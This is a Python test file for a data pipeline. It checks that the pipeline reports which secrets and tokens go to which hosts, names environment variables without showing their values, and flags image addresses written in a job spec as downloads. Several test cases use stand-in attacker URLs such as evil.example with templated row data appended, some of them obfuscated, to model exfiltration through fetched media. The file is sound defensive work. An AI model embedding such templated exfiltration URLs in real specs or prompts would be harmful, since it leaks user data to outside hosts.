"""What leaves with a job is known by name before anything does."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from pipeline.engine.leaving import downloads, notes, secrets
from pipeline.spec.load import load_text
from pipeline.wire.dialect import DIALECTS

if TYPE_CHECKING:
    from pathlib import Path

    from pipeline.spec.job import Job

POLICY = {
    "type": "allowlist",
    "allowed_domains": ["pkg.example"],
    "domain_secrets": [{"domain": "pkg.example", "name": "n", "value_env": "PKG"}],
}
TOOLS = [
    {"type": "mcp", "server_label": "g", "server_url": "https://github.example/mcp", "authorization_env": "GITHUB"},
    {"type": "mcp", "server_label": "h", "server_url": "https://h.example/x", "headers_env": {"A": "ONE", "B": "TWO"}},
    {"type": "mcp", "server_label": "c", "connector_id": "connector_gmail", "authorization_env": "GMAIL"},
    {"type": "remote_mcp", "remote_mcp": {"url": "https://[broken", "auth_token_env": "GITHUB"}},
    {"type": "code_interpreter", "container": {"type": "auto", "network_policy": POLICY}},
    {"type": "web_search"},
]


def load(folder: Path, **settings: Any) -> Job:
    """Return a job as its spec is loaded, with variables filled in."""
    spec = {
        "provider": "openai",
        "model": "m",
        "input": "i.csv",
        "prompt": "{{ q }}",
        "output": "o.parquet",
        **settings,
    }
    environ = {"DATABASE": "pg://u:hidden@h", "HOME": "/hidden"}
    return load_text(json.dumps(spec), format="json", folder=folder, environ=environ)


def shown(source: str, **media: Any) -> dict[str, Any]:
    """Return the settings of a job that shows an image and may download it."""
    return {"prompt": [{"text": "{{ q }}"}, {"image": source}], "media": {"fetch": True, **media}}


def test_every_secret_is_named_with_the_host_that_gets_it(tmp_path: Path) -> None:
    """The key of the provider, tokens and headers of servers, and secrets of containers, in the request and verbatim."""
    job = load(tmp_path, request={"tools": TOOLS}, extra_body={"tools": TOOLS[:1]})
    assert secrets(job, job.provider.endpoint()) == (
        "$OPENAI_API_KEY -> api.openai.com",
        "$GITHUB -> github.example",
        "$ONE -> h.example",
        "$TWO -> h.example",
        "$GMAIL -> connector_gmail",
        "$GITHUB -> https://[broken",
        "$PKG -> pkg.example",
    )


def test_the_simulator_keeps_what_it_is_given(tmp_path: Path) -> None:
    """No server of a tool's is asked by it."""
    job = load(tmp_path, provider="simulator", request={"tools": TOOLS[:1]})
    assert secrets(job, job.provider.endpoint("http://127.0.0.1:1/v1")) == ("$GITHUB -> the simulator",)


@pytest.mark.parametrize("dialect", DIALECTS)
def test_a_server_without_a_key_gets_none(tmp_path: Path, dialect: str) -> None:
    """Then there is nothing to tell."""
    job = load(tmp_path, provider={"base_url": "https://x.example/v1", "dialect": dialect})
    assert secrets(job, job.provider.endpoint()) == ()


def test_variables_are_named_where_their_texts_are_sent(tmp_path: Path) -> None:
    """Each once, with every place, and never by value; a path on this machine is not sent."""
    job = load(
        tmp_path,
        prompt=[{"text": "{{ q }} ${DATABASE} ${DATABASE}"}, {"text": "${HOME}"}],
        request={"metadata": {"a": "${DATABASE}"}},
        run_dir="${HOME}/run",
    )
    assert notes(job) == ("from the environment: DATABASE in prompt.0.text, request.metadata.a; HOME in prompt.1.text",)
    assert notes(load(tmp_path, run_dir="${HOME}/run")) == ()


@pytest.mark.parametrize(
    "source",
    [
        "http://evil.example/x?d={{ q }}",
        "  HTTPS://evil.example/{{ q }}",
        "{{ 'http://evil.example/' ~ q }}",
        "ht{{ 'tp://evil.example/' }}{{ q }}",
        "{# a #}http://evil.example/",
        "{% if q %}http://evil.example/{% endif %}",
    ],
)
def test_an_address_that_the_spec_writes_is_a_download_of_the_specs(tmp_path: Path, source: str) -> None:
    """However it is put together; and a note says so."""
    job = load(tmp_path, provider="simulator", **shown(source))
    assert downloads(job) == ["prompt.user.1.image"]
    assert notes(job) == ("what prompt.user.1.image shows is downloaded here, from addresses that the spec writes",)


def test_an_address_in_a_turn_of_a_conversation_counts(tmp_path: Path) -> None:
    """Any message may show something."""
    turn = {"role": "user", "content": [{"file": "https://evil.example/{{ q }}"}]}
    job = load(tmp_path, prompt={"messages": [{"role": "user", "content": "hi"}, turn]}, media={"fetch": True})
    assert downloads(job) == ["prompt.messages.1.content.0.file"]


@pytest.mark.parametrize(
    "settings",
    [
        shown("photo"),
        shown("{{ photo }}"),
        shown("photos/{{ photo }}.png"),
        shown("http://evil.example/{{ q }}", fetch=False),
        shown("http://evil.example/{{ q }}", send="url"),
        {"prompt": "http://evil.example/{{ q }}", "media": {"fetch": True}},
    ],
)
def test_what_a_row_names_or_nobody_downloads_is_none(tmp_path: Path, settings: dict[str, Any]) -> None:
    """A row's own URLs carry nothing of the spec's, files are no addresses, and what is not fetched stays here."""
    assert downloads(load(tmp_path, **settings)) == []
